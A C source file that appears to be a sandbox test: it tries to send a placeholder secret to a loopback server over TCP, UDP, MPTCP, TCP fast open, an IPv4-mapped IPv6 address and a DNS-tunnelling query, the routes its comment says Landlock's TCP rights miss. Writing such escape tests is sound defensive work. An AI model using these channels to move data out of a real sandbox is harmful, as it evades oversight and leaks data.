/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A server outside that is reached over TCP and UDP, also by what Landlock's TCP rights do not see: datagrams (DNS tunnelling: the secret
 * is a label of the name that is asked for), fast open, MPTCP. ARG: its port (TCP and UDP, on 127.0.0.1).
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>

#define SECRET "secret message"

static struct sockaddr_in server(const struct attack *a)
{
	return (struct sockaddr_in){
		.sin_family = AF_INET,
		.sin_port = htons((uint16_t)strtoul(a->more[0], NULL, 10)),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
}

/* Waits for the server's answer: one byte. A network of our own, where nobody is, refuses. */
static int answered(int fd)
{
	struct pollfd wait = { .fd = fd, .events = POLLIN };
	char byte;

	if (poll(&wait, 1, 5000) != 1)
		return ETIMEDOUT;
	return read(fd, &byte, 1) == 1 ? 0 : errno ? errno : ECONNRESET;
}

static int talk(const struct attack *a, int type, int protocol)
{
	struct sockaddr_in to = server(a);
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, protocol), r;

	if (fd < 0)
		return errno;
	r = connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 || send(fd, SECRET, strlen(SECRET), MSG_NOSIGNAL) < 0
		  ? errno
		  : answered(fd);
	(void)close(fd);
	return r;
}

static int tcp(const struct attack *a)
{
	return talk(a, SOCK_STREAM, 0);
}

static int udp(const struct attack *a)
{
	return talk(a, SOCK_DGRAM, 0);
}

static int mptcp(const struct attack *a)
{
	return talk(a, SOCK_STREAM, 262 /* IPPROTO_MPTCP */);
}

static int fast_open(const struct attack *a)
{
	struct sockaddr_in to = server(a);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), r;

	if (fd < 0)
		return errno;
	r = sendto(fd, SECRET, strlen(SECRET), MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&to, sizeof(to)) < 0 ? errno
														    : answered(fd);
	(void)close(fd);
	return r;
}

static int mapped(const struct attack *a)
{
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_port = server(a).sin_port };
	int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || inet_pton(AF_INET6, "::ffff:127.0.0.1", &to.sin6_addr) != 1)
		return errno;
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 || send(fd, SECRET, strlen(SECRET), MSG_NOSIGNAL) < 0)
		return errno;
	return answered(fd);
}

/* A question for secret.example, as a resolver asks it. */
static int dns(const struct attack *a)
{
	static const char question[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07"
				       "example\x00\x00\x01\x00\x01";
	struct sockaddr_in to = server(a);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return errno;
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    send(fd, question, sizeof(question) - 1, 0) < 0) /* connected: it hears of refusals */
		return errno;
	return answered(fd);
}

static const struct way ways[] = {
	{ "tcp", tcp }, { "udp", udp }, { "mptcp", mptcp }, { "fast_open", fast_open }, { "mapped", mapped }, { "dns", dns },
};

ATTACK_MAIN(ways)
